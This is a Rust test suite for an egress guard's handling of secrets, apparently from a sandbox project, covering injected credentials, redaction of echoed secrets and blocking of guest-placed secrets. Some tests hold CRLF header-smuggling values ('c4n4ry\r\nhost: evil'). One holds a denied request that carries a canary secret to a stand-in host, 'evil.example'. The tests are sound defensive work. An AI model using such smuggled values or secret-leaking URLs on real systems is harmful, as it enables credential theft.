//! G11: secrets that the host injects, that the guest misplaces, and that a server sends back.

use crate::support::{CANARY, Call, guard, header, url};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use bytes::Bytes;
use palyra_common::CapabilityKind;
use palyra_common::capabilities::Capability;
use palyra_egress::testing::{TestReply, TestRequest, TestServer};
use palyra_egress::{EgressError, InjectionForm, Redactor};

const BEARER: &str = "global/token hosts=api.example.com inject=bearer";

async fn echo_nothing() -> TestServer {
    TestServer::http(|_| TestReply::ok("fine")).await.unwrap()
}

fn basic(username: &str) -> InjectionForm {
    InjectionForm::BasicPassword { username: username.into() }
}

#[tokio::test]
async fn g11_injected_forms_arrive() {
    let grant = "global/token hosts=api.example.com inject=bearer,basic,header:x-api-key,query:key";
    let sent = |request: &TestRequest, name: &str| {
        request.headers.get(name).map(|value| value.to_str().unwrap().to_owned())
    };
    let server = echo_nothing().await;
    let guard = guard();
    for (form, path, name, expected) in [
        (InjectionForm::Bearer, "/", "authorization", format!("Bearer {CANARY}")),
        (basic("ann"), "/", "authorization", format!("Basic {}", STANDARD.encode(format!("ann:{CANARY}")))),
        (InjectionForm::Header("X-Api-Key".into()), "/", "x-api-key", CANARY.to_owned()),
    ] {
        Call::get(url(&server, path)).inject(grant, form, CANARY).send(&guard).await.unwrap();
        assert_eq!(sent(server.requests().last().unwrap(), name), Some(expected));
    }
    for (path, expected) in [("/", "/?key="), ("/?a=b", "/?a=b&key=")] {
        Call::get(url(&server, path))
            .inject(grant, InjectionForm::Query("key".into()), CANARY)
            .send(&guard)
            .await
            .unwrap();
        let target = server.requests().last().unwrap().target.clone();
        assert_eq!(target, format!("{expected}c4n4ry%2FSecret%2BValue%3D42"));
    }
}

#[tokio::test]
async fn g11_injection_needs_host_and_form() {
    let server = echo_nothing().await;
    for (grant, reason) in [
        ("global/token hosts=other.example inject=bearer", "not bound to the host `api.example.com`"),
        ("global/token hosts=*.api.example.com inject=bearer", "not bound to the host"),
        ("global/token hosts=api.example.com inject=header:x-api-key", "does not allow the form `bearer`"),
        ("global/token reveal", "not bound to the host"),
    ] {
        let denial =
            Call::get(url(&server, "/")).inject(grant, InjectionForm::Bearer, CANARY).denial(&guard()).await;
        assert_eq!((denial.kind, denial.subject.as_str()), (CapabilityKind::Secret, "global/token"));
        assert!(denial.reason.contains(reason), "{}", denial.reason);
        let wanted = "secret:global/token hosts=api.example.com inject=bearer";
        assert_eq!(denial.grant.as_deref(), Some(wanted));
        assert!(wanted.parse::<Capability>().is_ok());
        assert_eq!(
            denial.manifest.as_deref(),
            Some(
                r#"add `[[capabilities.secrets]]` with scope = "global", key_names = ["token"], hosts = ["api.example.com"], inject = ["bearer"]"#
            )
        );
    }
    assert_eq!(server.connections(), 0, "nothing left the host");
}

#[tokio::test]
async fn g11_an_injection_never_meets_what_the_guest_set() {
    let server = echo_nothing().await;
    let any = "global/token hosts=api.example.com inject=bearer,basic,header:x-key,header:host,query:key";
    let header = |name: &str| InjectionForm::Header(name.into());
    let query = || InjectionForm::Query("key".into());
    let at = |path: &str| Call::get(url(&server, path));
    for (case, call) in [
        ("bearer", at("/").header("Authorization", "mine").inject(any, InjectionForm::Bearer, CANARY)),
        ("basic", at("/").header("authorization", "mine").inject(any, basic("ann"), CANARY)),
        ("header", at("/").header("X-Key", "mine").inject(any, header("x-key"), CANARY)),
        ("twice", at("/").inject(any, InjectionForm::Bearer, CANARY).inject(any, basic("ann"), CANARY)),
        ("query", at("/?key=mine").inject(any, query(), CANARY)),
        ("encoded query", at("/?k%65y=mine").inject(any, query(), CANARY)),
        ("host", at("/").inject(any, header("host"), CANARY)),
        ("odd header", at("/").inject(any, header("x\n--grant"), CANARY)),
        ("odd parameter", at("/").inject(any, InjectionForm::Query("a b&c".into()), CANARY)),
        ("user name", at("/").inject(any, basic("a:b"), CANARY)),
        ("line end", at("/").inject(any, InjectionForm::Bearer, "c4n4ry\r\nhost: evil")),
    ] {
        let error = call.send(&guard()).await.unwrap_err();
        assert!(matches!(error, EgressError::InvalidRequest(_)), "{case}: {error:?}");
        assert!(!format!("{error} {error:?}").contains("c4n4ry"), "{case}: {error}");
    }
    assert_eq!(server.connections(), 0);
}

#[tokio::test]
async fn g11_with_a_secret_the_answer_is_asked_for_plain_and_whole() {
    let server = echo_nothing().await;
    let call = Call::get(url(&server, "/"))
        .header("Accept-Encoding", "gzip, br")
        .header("Range", "bytes=0-3")
        .header("If-Range", "\"x\"")
        .inject(BEARER, InjectionForm::Bearer, CANARY);
    call.send(&guard()).await.unwrap();
    let headers = &server.requests()[0].headers;
    assert_eq!(headers["accept-encoding"], "identity");
    assert!(headers.get("range").is_none() && headers.get("if-range").is_none());
}

/// Every form in which a server could hand the secret back, and still be caught.
fn echoes() -> Vec<(&'static str, String)> {
    let percent = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    vec![
        ("verbatim", CANARY.to_owned()),
        ("base64", STANDARD.encode(CANARY)),
        ("base64 at offset 1", STANDARD.encode(format!("u{CANARY}"))),
        ("base64 at offset 2", STANDARD.encode(format!("u:{CANARY}!"))),
        ("base64 for URLs", URL_SAFE_NO_PAD.encode(format!("{CANARY}??"))),
        ("hexadecimal", hex::encode(CANARY)),
        ("upper hexadecimal", hex::encode_upper(CANARY)),
        ("percent", "c4n4ry%2FSecret%2BValue%3D42".to_owned()),
        ("lower percent", "c4n4ry%2fSecret%2bValue%3d42".to_owned()),
        ("all percent", percent(CANARY)),
        ("percent of base64", percent(&STANDARD.encode(CANARY))),
        ("JSON", CANARY.replace('/', "\\/")),
    ]
}

#[tokio::test]
async fn g11_an_echoed_secret_is_blotted_out_however_it_is_cut() {
    let server = TestServer::http(|request| {
        let form: usize = request.target.trim_start_matches('/').parse().unwrap();
        let echo = echoes()[form].1.clone();
        let body = format!("before {echo} between {echo} after");
        let pieces = body.into_bytes().chunks(3).map(Bytes::copy_from_slice).collect::<Vec<_>>();
        TestReply::status(200).header("x-echo", format!("<{echo}>")).pieces(pieces)
    })
    .await
    .unwrap();
    let guard = guard();
    for (index, (form, echo)) in echoes().into_iter().enumerate() {
        let call =
            Call::get(url(&server, &format!("/{index}"))).inject(BEARER, InjectionForm::Bearer, CANARY);
        let response = call.send(&guard).await.unwrap();
        let body = String::from_utf8(response.body.to_vec()).unwrap();
        assert!(
            body.starts_with("before ") && body.contains(" between ") && body.ends_with(" after"),
            "{form}: {body}"
        );
        assert_eq!(body.matches("****").count(), 2, "{form}: {body}");
        assert!(!body.contains(&echo[..8]) && !body.contains(&echo[echo.len() - 8..]), "{form}: {body}");
        let value = header(&response, "x-echo").unwrap();
        assert!(value.contains("****") && !value.contains(&echo[..8]), "{form}: {value}");
        assert!(
            !call.injections.is_empty() && !Redactor::new([&call.injections[0].value]).is_in(&response.body)
        );
    }
}

#[tokio::test]
async fn g11_a_redacted_body_has_the_length_it_says() {
    let server = TestServer::http(|_| TestReply::ok(format!("<{CANARY}>"))).await.unwrap();
    let call = Call::get(url(&server, "/")).guard_secret("global/token", CANARY, &[]);
    let response = call.send(&guard()).await.unwrap();
    assert_eq!((&response.body[..], header(&response, "content-length")), (&b"<****>"[..], Some("6")));
}

#[tokio::test]
async fn g11_a_secret_placed_by_the_guest_is_denied() {
    let server = echo_nothing().await;
    let port = server.address().port();
    let encoded = STANDARD.encode(format!("x{CANARY}"));
    let at = |path: &str| Call::get(url(&server, path));
    let mut named = at("/");
    named.request.headers.push((hex::encode(CANARY), "x".into()));
    for (place, call) in [
        ("URL", at("/c4n4ry/Secret+Value=42")),
        ("URL", at("/?t=c4n4ry%2FSecret%2BValue%3D42")),
        ("URL", at(&format!("/{}/x", hex::encode(CANARY)))),
        ("URL", at(&format!("/?q={}", encoded.replace('=', "%3D")))),
        ("headers", at("/").header("x-data", CANARY)),
        ("headers", at("/").header("cookie", &format!("a=b; t={encoded}"))),
        ("headers", named),
        ("body", Call::post(url(&server, "/"), format!("{{\"t\":\"{CANARY}\"}}"))),
        ("body", Call::post(url(&server, "/"), vec![b'x'; 200_000]).suffix(CANARY)),
        (
            "user name",
            at("/").inject("global/other hosts=api.example.com inject=basic", basic(CANARY), "other-value"),
        ),
    ] {
        let call = call.guard_secret("global/token", CANARY, &["elsewhere.example"]);
        let denial = call.denial(&guard()).await;
        assert_eq!((denial.kind, denial.subject.as_str()), (CapabilityKind::Secret, "global/token"));
        assert!(denial.reason.contains(place), "{place}: {}", denial.reason);
        assert_eq!(denial.grant.as_deref(), Some("secret:global/token hosts=api.example.com reveal"));
        assert!(!format!("{denial:?}").contains("c4n4ry"), "{denial:?}");
    }
    let label = Call::get(format!("http://Hunter2Hunter2.example.com:{port}/"));
    let label =
        label.rule(format!("http://*.example.com:{port}")).guard_secret("global/pin", "Hunter2Hunter2", &[]);
    assert_eq!(
        label.denial(&guard()).await.subject,
        "global/pin",
        "upper case in a host is seen as it was written"
    );
    assert_eq!(server.connections(), 0);
}

impl Call {
    fn suffix(mut self, text: &str) -> Self {
        self.request.body = [&self.request.body[..], text.as_bytes()].concat().into();
        self
    }
}

#[tokio::test]
async fn g11_a_secret_the_guest_may_reveal_passes_to_its_own_host_only() {
    let server = echo_nothing().await;
    let call = |reveal_to: &[&str]| {
        Call::get(url(&server, "/")).header("x-signed-with", CANARY).guard_secret(
            "global/token",
            CANARY,
            reveal_to,
        )
    };
    assert_eq!(call(&["api.example.com"]).send(&guard()).await.unwrap().status, 200);
    assert_eq!(call(&["*.example.com"]).send(&guard()).await.unwrap().status, 200);
    call(&["example.com"]).denial(&guard()).await;
}

#[tokio::test]
async fn g11_scanning_comes_before_injection() {
    let server = echo_nothing().await;
    let call = Call::get(url(&server, "/")).inject(BEARER, InjectionForm::Bearer, CANARY).guard_secret(
        "global/token",
        CANARY,
        &[],
    );
    assert_eq!(call.send(&guard()).await.unwrap().status, 200, "the token we put there ourselves is no leak");
}

#[tokio::test]
async fn g11_a_secret_of_three_bytes_is_left_alone() {
    let server = TestServer::http(|_| TestReply::ok("abc abcd")).await.unwrap();
    let call = Call::get(url(&server, "/abc")).guard_secret("global/short", "abc", &[]).guard_secret(
        "global/long",
        "abcd",
        &[],
    );
    assert_eq!(call.send(&guard()).await.unwrap().body, "abc ****");
}

#[tokio::test]
async fn g11_errors_hold_no_secret() {
    let call = Call::get("https://api.example.com/").inject(BEARER, InjectionForm::Bearer, CANARY);
    let guard = crate::support::guard_with(palyra_egress::testing::FixedResolver::new());
    let error = call.send(&guard).await.unwrap_err();
    assert!(matches!(error, EgressError::Unavailable(_)));
    assert!(!format!("{error} {error:?}").contains(CANARY));

    // Before a run's secrets are known, a denial shows the URL; its caller redacts it with the same forms.
    let redactor = Redactor::new([&call.injections[0].value]);
    let denied =
        Call::get("https://evil.example/c4n4ry%2FSecret%2BValue%3D42").rule("https://api.example.com");
    let error = denied.send(&guard).await.unwrap_err().redacted(&redactor);
    assert!(format!("{error:?}").contains("****") && !format!("{error:?}").contains("c4n4ry"), "{error:?}");
}

#[tokio::test]
async fn g11_a_body_of_many_windows_is_searched_as_a_whole() {
    let server = TestServer::http(|request| {
        let at: usize = request.target.trim_start_matches('/').parse().unwrap();
        let mut body = vec![b'.'; 600_000];
        body[at..at + CANARY.len()].copy_from_slice(CANARY.as_bytes());
        TestReply::ok(body)
    })
    .await
    .unwrap();
    let guard = guard();
    for at in [0, (256 << 10) - 7, 256 << 10, 600_000 - CANARY.len()] {
        let call = Call::get(url(&server, &format!("/{at}"))).guard_secret("global/token", CANARY, &[]);
        let response = call.send(&guard).await.unwrap();
        assert_eq!(response.body.len(), 600_000 - CANARY.len() + 4, "at {at}");
        assert_eq!(&response.body[at..at + 4], b"****");
        assert!(response.body.iter().all(|byte| b".*".contains(byte)));
    }
}
